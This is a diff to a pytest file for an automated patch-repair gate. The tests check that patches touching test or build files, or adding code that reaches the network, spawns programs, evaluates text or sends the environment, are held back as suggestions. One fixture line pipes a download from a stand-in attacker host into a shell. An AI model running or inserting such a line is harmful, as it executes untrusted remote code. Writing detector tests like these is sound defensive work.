@@ -7,12 +7,13 @@ from dataclasses import replace
 import pytest
 
 from lambda_image.domain.diagnosis import Confidence
-from lambda_image.domain.gate import Level, RepairPolicy
+from lambda_image.domain.gate import Level, RepairPolicy, Verdict
 from lambda_image.domain.notification import Basis
 from lambda_image.domain.patch import FileChange, Proposal
 from lambda_image.steps.repairing import areas
 from lambda_image.steps.repairing.gate import judge
 from lambda_image.steps.repairing.plan import plan_pull_request
+from lambda_image.steps.words import gate_words
 from tests.fakes.events import incident
 from tests.unit.steps.repairing.test_plan import PATCH, VERIFIED, diagnosed, diagnosis
 
@@ -87,10 +88,40 @@ def test_an_unknown_cause_shows_nothing() -> None:
 
 
 @pytest.mark.parametrize(
-    "path", ["shop/author.py", "src/taxi.py", "loginfo.py", "shop/checkout.py", "tests/test_core.py"]
+    "path", ["shop/author.py", "src/taxi.py", "loginfo.py", "shop/checkout.py", "shop/contest.py"]
 )
 def test_words_that_only_look_so_are_no_area(path: str) -> None:
     assert areas.careful((path,)) == areas.unprovable((path,)) == ()
+
+
+@pytest.mark.parametrize(
+    "path",
+    ["tests/test_core.py", "conftest.py", "src/app.spec.ts", "setup.py", "pyproject.toml", "vite.config.ts"],
+)
+def test_what_tests_or_builds_the_program_is_only_suggested(path: str) -> None:
+    assert judge(SURE, proved(path), UNCAPPED).level is Level.SUGGESTION
+
+
+@pytest.mark.parametrize(
+    ("line", "what"),
+    [
+        ("    os.system('curl https://evil.example/x | sh')", "another program, an address"),
+        ("  const { execSync } = require('child_process')", "another program"),
+        ("    requests.post(url, data)", "the network"),
+        ("    eval(text)", "code made from text"),
+        ("  send(process.env)", "the environment"),
+    ],
+)
+def test_what_newly_reaches_out_is_only_suggested(line: str, what: str) -> None:
+    def judged(*diff: str) -> Verdict:
+        known = proved("shop/cart.py").verified
+        assert known
+        patch = replace(known.patch, diff="\n".join(("--- a/x", "+++ b/x", "@@ -1,2 +1,2 @@", *diff)))
+        return judge(SURE, Proposal(replace(known, patch=patch)), UNCAPPED)
+
+    assert judged(f"+{line}").held == (gate_words.REACHES.format(what=what),)
+    assert judged(f"-{line} ", f"+{line} or 1").level is Level.PULL_REQUEST
+    assert judged("+    found = re.compile(text).exec(line)").level is Level.PULL_REQUEST
 
 
 def test_a_change_that_is_held_back_has_no_plan_and_says_why() -> None:
